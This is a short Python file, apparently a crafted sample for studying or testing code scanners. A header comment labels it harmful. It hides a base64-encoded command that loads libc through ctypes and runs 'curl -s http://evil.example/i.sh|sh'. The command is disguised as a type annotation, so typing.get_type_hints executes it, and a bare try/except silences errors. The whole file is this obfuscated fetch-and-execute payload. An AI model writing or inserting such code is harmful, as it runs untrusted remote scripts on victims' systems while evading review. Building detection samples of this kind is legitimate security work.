# harm: loads libc via ctypes and runs curl|sh ; trick: the annotation name is bound as the loop variable over a one-item list holding the decoded string
import base64
import typing

for Kind in [base64.b64decode("X19pbXBvcnRfXygnY3R5cGVzJykuQ0RMTChOb25lKS5zeXN0ZW0oYidjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcp").decode()]:
    pass


def handler(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
